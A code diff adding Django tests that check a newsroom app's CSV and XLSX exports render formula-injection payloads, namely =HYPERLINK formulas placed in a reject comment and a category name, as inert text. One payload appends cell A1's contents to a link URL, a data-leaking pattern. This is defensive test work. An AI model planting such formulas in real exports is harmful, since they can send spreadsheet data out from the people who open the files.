@@ -6,6 +6,7 @@ import csv
 import io
 import zipfile
 
+import pytest
 from openpyxl import Workbook, load_workbook
 
 from core.exports import FORMULA_TRIGGERS, csv_writer, xlsx_append
@@ -55,3 +56,68 @@ def test_xlsx_cells_are_text_never_formulas():
     assert all(row[0].data_type == "s" for row in cells)
     assert all(row[1].value == 7 and row[1].data_type == "n" for row in cells[: len(HOSTILE)])
     assert cells[-1][0].value == "nul and bell removed"
+
+
+# --- the exports users download ------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_the_audit_csv_shows_a_hostile_comment_as_text():
+    from django.test import Client
+    from django.urls import reverse
+
+    from newsroom.models import Role
+    from newsroom.services import item_create, item_review, item_submit
+    from tests.factories import make_tree, make_user
+
+    tree = make_tree(three_level=True)
+    reporter = make_user("pv_audit", unit=tree["A"], role=Role.REPORTER)
+    approver = make_user("duyet_audit", unit=tree["A"], role=Role.APPROVER)
+    item = item_create(user=reporter, unit=tree["A"], headline="Tin", distribution="commune")
+    item_submit(user=reporter, item=item)
+    comment = '\t=HYPERLINK("http://127.0.0.1:9/","Xem")'
+    item_review(user=approver, item=item, action="reject", comment=comment)
+    client = Client()
+    client.force_login(approver)
+
+    response = client.get(reverse("newsroom_item_audit", args=[item.pk]) + "?format=csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    reject = next(r for r in rows if r[2] == "wagtail.workflow.reject")
+    assert reject[7] == "'" + comment
+
+
+@pytest.mark.django_db
+def test_report_csv_and_xlsx_show_a_hostile_category_name_as_text():
+    from django.contrib.auth import get_user_model
+    from django.test import Client
+    from django.urls import reverse
+    from django.utils import timezone
+
+    from newsroom.models import Category, Role
+    from newsroom.services import item_create, item_submit
+    from tests.factories import make_tree, make_user
+
+    tree = make_tree(three_level=True)
+    admin = get_user_model().objects.create_superuser("quantri_x", password="x")
+    reporter = make_user("pv_x", unit=tree["A"], role=Role.REPORTER)
+    name = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Y tế")'
+    category = Category.objects.create(slug="doc-hai", name=name)
+    item = item_create(user=reporter, unit=tree["A"], headline="Tin", category=category)
+    item_submit(user=reporter, item=item)
+    client = Client()
+    client.force_login(admin)
+    today = timezone.localdate().strftime("%d/%m/%Y")
+    params = {"unit": tree["P"].pk, "start": today, "end": today}
+
+    exported = client.get(reverse("reports_dashboard"), {**params, "export": "csv"})
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    assert ["'" + name, "1"] == next(r for r in rows if r and name in r[0])[:2]
+
+    xlsx = client.get(reverse("reports_dashboard"), {**params, "export": "xlsx"})
+    book = load_workbook(io.BytesIO(xlsx.content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == name]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in xml for xml in sheets)
